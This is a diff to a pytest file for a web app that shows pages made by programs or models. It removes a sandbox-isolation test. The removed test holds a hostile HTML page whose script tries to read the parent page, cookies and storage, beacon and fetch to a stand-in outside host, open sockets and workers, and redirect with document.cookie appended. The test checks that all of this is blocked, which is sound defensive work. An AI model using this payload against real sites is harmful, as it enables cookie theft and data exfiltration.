@@ -3,9 +3,7 @@
 from __future__ import annotations
 
 import json
-import threading
-from collections.abc import Callable, Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from collections.abc import Callable
 
 import httpx
 import pytest
@@ -117,94 +115,6 @@ def test_the_keyboard_reaches_the_box_and_shows_where_it_is(open_page: Open) -> 
 
 
 # What a program or a model made
-
-
-class _Listener(BaseHTTPRequestHandler):
-    heard: list[str]
-
-    def do_GET(self) -> None:
-        self.heard.append(self.path)
-        self.send_response(200)
-        self.send_header("Access-Control-Allow-Origin", "*")
-        self.end_headers()
-
-    do_POST = do_GET
-
-    def log_message(self, *_args: object) -> None:
-        """Nothing into the test's output."""
-
-
-@pytest.fixture
-def listener() -> Iterator[tuple[str, list[str]]]:
-    """A server elsewhere on this machine, and what reached it."""
-    heard: list[str] = []
-    server = ThreadingHTTPServer(("127.0.0.1", 0), type("Listener", (_Listener,), {"heard": heard}))
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    yield f"http://127.0.0.1:{server.server_address[1]}", heard
-    server.shutdown()
-    server.server_close()
-    thread.join()
-
-
-HOSTILE = """<!doctype html><html><head>
-<link rel="stylesheet" href="ELSEWHERE/style"><link rel="prefetch" href="ELSEWHERE/prefetch">
-<link rel="preconnect" href="ELSEWHERE"></head><body><pre id="said"></pre>
-<img src="ELSEWHERE/img"><iframe src="ELSEWHERE/frame"></iframe><video src="ELSEWHERE/video"></video>
-<form id="f" action="ELSEWHERE/form" method="post"><input name="a" value="b"></form>
-<script>
-const said = {};
-const tried = async (name, act) => {
-  try { const got = await act(); said[name] = "reached: " + String(got).slice(0, 60); }
-  catch (refusal) { said[name] = "refused"; }
-};
-const quietly = (act) => { try { act(); } catch (refusal) { return; } };  // the listener tells what came of it
-const never = (start) => new Promise((yes, no) => { start(yes, no); setTimeout(() => no("silence"), 1500); });
-(async () => {
-  await tried("parent", () => parent.document.title);
-  quietly(() => { top.location.href = "ELSEWHERE/top"; });
-  await tried("cookie", () => document.cookie);
-  await tried("storage", () => localStorage.length);
-  await tried("fetch", () => fetch("ELSEWHERE/fetch", {mode: "no-cors"}));
-  await tried("own", () => fetch("/_stcore/health"));
-  quietly(() => navigator.sendBeacon("ELSEWHERE/beacon", document.title));
-  await tried("socket", () => never((yes, no) => {
-    const s = new WebSocket("SOCKET/socket"); s.onopen = yes; s.onerror = no; }));
-  await tried("page socket", () => never((yes, no) => {
-    const s = new WebSocket("PAGE/_stcore/stream"); s.onopen = yes; s.onerror = no; }));
-  await tried("worker", () => never((yes, no) => {
-    const w = new Worker(URL.createObjectURL(new Blob(["fetch('ELSEWHERE/worker')"]))); w.onerror = no; }));
-  await tried("window", () => { if (!window.open("ELSEWHERE/window")) throw "refused"; return "opened"; });
-  quietly(() => document.getElementById("f").submit());
-  document.getElementById("said").textContent = JSON.stringify(said);
-  setTimeout(() => { location.href = "ELSEWHERE/self?" + document.cookie; }, 1500);
-})();
-</script></body></html>"""
-
-
-def test_a_hostile_page_reaches_nothing(
-    open_page: Open, served: Served, listener: tuple[str, list[str]]
-) -> None:
-    elsewhere, heard = listener
-    page_socket = served.address.replace("http", "ws")
-    html = HOSTILE.replace("ELSEWHERE", elsewhere).replace("SOCKET", elsewhere.replace("http", "ws"))
-    with served.seeds() as seeds:
-        conversation = seeds.conversation()
-        made = Made("page.html", "text/html", html.replace("PAGE", page_socket).encode())
-        seeds.result(conversation, "a page", (made,), title="A page", kind="html")
-    page = open_page(f"/?c={conversation}")
-    frame = page.frame_locator("iframe[title='A page']")
-    frame.locator("#said", has_text="window").wait_for()
-    said = json.loads(frame.locator("#said").inner_text())
-    assert set(said) == {
-        *("parent", "cookie", "storage", "fetch", "own"),
-        *("socket", "page socket", "worker", "window"),
-    }
-    assert {name: what for name, what in said.items() if what != "refused"} == {}
-    page.wait_for_timeout(3000)
-    assert heard == []
-    assert page.url.startswith(served.address)
-    assert page.title() == "Oneoff"
 
 
 def test_a_made_page_opens_inside_ours_only(chromium_page: Page, served: Served) -> None:
